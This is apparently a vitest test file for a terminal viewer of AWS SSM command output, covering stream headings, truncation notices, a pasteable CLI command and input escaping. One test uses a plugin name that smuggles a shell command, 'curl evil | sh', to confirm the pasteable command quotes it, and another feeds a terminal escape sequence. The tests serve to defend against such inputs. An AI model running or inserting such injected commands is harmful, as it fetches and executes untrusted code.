import * as fc from 'fast-check';
import stringWidth from 'string-width';
import { describe, expect, it } from 'vitest';
import {
  listedReading,
  type OutputReading,
  type StreamText,
  wholeText,
} from '../../../src/domain/output-reading.ts';
import { wholeRegion } from '../../../src/domain/text-region.ts';
import { outputDocument } from '../../../src/ui/detail/output-blocks.ts';
import { noMatches, type OutputDocument } from '../../../src/ui/detail/output-document.ts';
import { OutputView } from '../../../src/ui/detail/output-view.ts';
import { commandId, hostileIn, hostileText, instanceId, invocation, plugin } from '../../helpers/fixtures.ts';

const separator = '\n----------ERROR-------\n';
const cliOptions = '--region eu-west-1 --profile prod';
/** What is said where AWS cut a stream. */
const cut = (stream: string, name = 'aws:runShellScript') => [
  `notice: ${stream} was cut by AWS; more of it with:`,
  `notice:   aws ssm get-command-invocation ${cliOptions} \\`,
  `notice:     --command-id ${commandId} \\`,
  `notice:     --instance-id ${instanceId} --plugin-name ${name}`,
];

const documentOf = (output: string, change: Parameters<typeof plugin>[0] = {}) => {
  const shown = plugin({ output, ...change });
  return outputDocument(invocation(), shown, listedReading(shown), cliOptions);
};
/** The lines as they are drawn. */
const rowsOf = (document: OutputDocument) =>
  new OutputView(document, noMatches, document.length, null, 1_000, 1_000)
    .rows('start')
    .map(({ kind, spans }) => ({ kind, text: spans.map(({ text }) => text).join('') }));
const written = (document: OutputDocument) => rowsOf(document).map(({ kind, text }) => `${kind}: ${text}`);
const noticesOf = (output: string) => rowsOf(documentOf(output)).filter(({ kind }) => kind === 'notice');

describe('what the list gives', () => {
  it.each<[string, string, string[]]>([
    ['stdout', 'one\ntwo\n', ['heading: stdout', 'stdout: one', 'stdout: two']],
    ['stderr', `${separator}no\n`, ['heading: stderr', 'stderr: no']],
    [
      'both, apart',
      `out\n${separator}err\nfailed to run commands: exit status 7`,
      [
        'heading: stdout',
        'stdout: out',
        'heading: stderr',
        'stderr: err',
        'stderr: failed to run commands: exit status 7',
      ],
    ],
    ['empty lines', 'a\n\nb\n\n', ['heading: stdout', 'stdout: a', 'stdout: ', 'stdout: b', 'stdout: ']],
    ['tabs and Windows newlines', 'a\tb\r\nc\r\n', ['heading: stdout', 'stdout: a       b', 'stdout: c']],
    [
      'stdout that AWS cut',
      `long\n---Output truncated---${separator}err`,
      ['heading: stdout', 'stdout: long', ...cut('stdout'), 'heading: stderr', 'stderr: err'],
    ],
    [
      'stderr that AWS cut',
      `out${separator}long\n---Error truncated----`,
      ['heading: stdout', 'stdout: out', 'heading: stderr', 'stderr: long', ...cut('stderr')],
    ],
    [
      'stdout of which AWS left nothing',
      `\n---Output truncated---${separator}err`,
      ['heading: stdout', ...cut('stdout'), 'heading: stderr', 'stderr: err'],
    ],
  ])('%s', (_, output, lines) => expect(written(documentOf(output))).toEqual(lines));

  it('names the step in how to get the rest', () =>
    expect(written(documentOf('x\n---Output truncated---', { name: 'configurePackage' })).slice(-4)).toEqual(
      cut('stdout', 'configurePackage'),
    ));

  it('says how to get the rest in lines that can be read whole at 80 columns', () => {
    const notices = noticesOf(`x\n---Output truncated---${separator}y\n---Error truncated----`);
    expect(notices).toHaveLength(2 * cut('stdout').length);
    for (const { text } of notices) expect(stringWidth(text), text).toBeLessThanOrEqual(80);
  });

  it('says how to get the rest as one command of the shell, for the same account', () => {
    const typed = noticesOf('x\n---Output truncated---')
      .slice(1)
      .map(({ text }) => text);
    expect(typed.slice(0, -1).every((line) => line.endsWith(' \\'))).toBe(true);
    expect(
      typed
        .join('\n')
        .replaceAll(/\s*\\\n\s*/g, ' ')
        .trim(),
    ).toBe(
      `aws ssm get-command-invocation ${cliOptions} --command-id ${commandId} --instance-id ${instanceId} --plugin-name aws:runShellScript`,
    );
  });

  it.each([
    ['Success', 'notice: no output'],
    ['Failed', 'notice: no output'],
    ['InProgress', 'notice: no output yet: AWS shows it when the step has ended'],
    ['Pending', 'notice: no output yet: AWS shows it when the step has ended'],
  ])('says of a step with no output in %s: %s', (status, line) => {
    const shown = plugin({ output: '', status });
    const running = invocation({ status: 'InProgress' });
    expect(written(outputDocument(running, shown, listedReading(shown), cliOptions))).toEqual([line]);
  });

  it.each([
    ['Pending', 'notice: no output: the step did not run, the invocation ended before it'],
    ['InProgress', 'notice: no output: the invocation ended before the step did'],
  ])('promises no output of a step in %s when the invocation has ended', (status, line) => {
    const shown = plugin({ output: '', status, startedAt: null, finishedAt: null });
    const ended = invocation({ status: 'Failed' });
    expect(written(outputDocument(ended, shown, listedReading(shown), cliOptions))).toEqual([line]);
  });

  it('lets nothing hostile through', () =>
    fc.assert(
      fc.property(hostileText(), hostileText(), hostileText(), (out, err, name) => {
        const document = documentOf(`${out}\n---Output truncated---${separator}${err}`, { name });
        const drawn = rowsOf(document).map(({ text }) =>
          text.replace(/\u200d(?=\p{Extended_Pictographic})/gu, ''),
        );
        expect(hostileIn(drawn.join(''))).toEqual([]);
      }),
    ));
});

describe('without a plugin', () => {
  it.each([
    ['plugin', undefined, listedReading(plugin())],
    ['reading', plugin(), null],
  ])('says so: no %s', (_, listed, reading) =>
    expect(written(outputDocument(invocation(), listed, reading, cliOptions))).toEqual([
      'notice: AWS lists no plugin of this invocation',
    ]),
  );
});

describe('what was read elsewhere', () => {
  const listed = plugin({ output: 'some\n---Output truncated---' });
  const lines = (change: Partial<OutputReading>) =>
    written(outputDocument(invocation(), listed, { ...listedReading(listed), ...change }, cliOptions));
  const s3 = (change: Partial<StreamText> = {}): StreamText => ({
    source: 'S3',
    region: wholeRegion('some\nmore\n'),
    moreBefore: false,
    moreAfter: false,
    total: 10,
    skipped: null,
    truncated: false,
    ...change,
  });

  it('takes its place, and says where it is from', () => {
    expect(
      lines({
        stdout: wholeText('GetCommandInvocation', 'some\nmore\n', false),
        stderr: wholeText('GetCommandInvocation', 'oops\n', true),
      }),
    ).toEqual([
      'heading: stdout · GetCommandInvocation',
      'stdout: some',
      'stdout: more',
      'heading: stderr · GetCommandInvocation',
      'stderr: oops',
      'notice: stderr was cut by AWS here too; S3 or CloudWatch Logs have all of it, where the command was sent with them',
    ]);
  });

  it('says how large it is where the source tells', () =>
    expect(lines({ stdout: s3() })).toEqual(['heading: stdout · S3 · 10 B', 'stdout: some', 'stdout: more']));

  it('says behind the last line how much of it was read', () =>
    expect(lines({ stdout: s3({ moreAfter: true, total: 50_000_000 }) })).toEqual([
      'heading: stdout · S3 · 50 MB',
      'stdout: some',
      'stdout: more',
      'notice: 10 B of 50 MB read; more is read as you go on',
    ]));

  it('has a heading where nothing is read yet of what there is', () =>
    expect(lines({ stdout: s3({ region: wholeRegion(''), moreBefore: true, total: null }) })).toEqual([
      'heading: stdout · S3',
    ]));

  it('leaves what there is where it cannot be read, and says why', () => {
    const [why, ...rest] = lines({ notices: ['the IAM action \u001b[2J is not allowed'] });
    expect(why).toBe('notice: the IAM action ^[[2J is not allowed');
    expect(rest).toContain('stdout: some');
  });
});

it('quotes in what can be pasted what is no name of AWS', () => {
  const stray = plugin({ name: "x; curl evil | sh 'y", output: 'long\n---Output truncated---' });
  const texts = written(outputDocument(invocation(), stray, listedReading(stray), cliOptions));
  expect(texts.at(-1)).toBe(
    String.raw`notice:     --instance-id ${instanceId} --plugin-name 'x; curl evil | sh '\''y'`,
  );
});
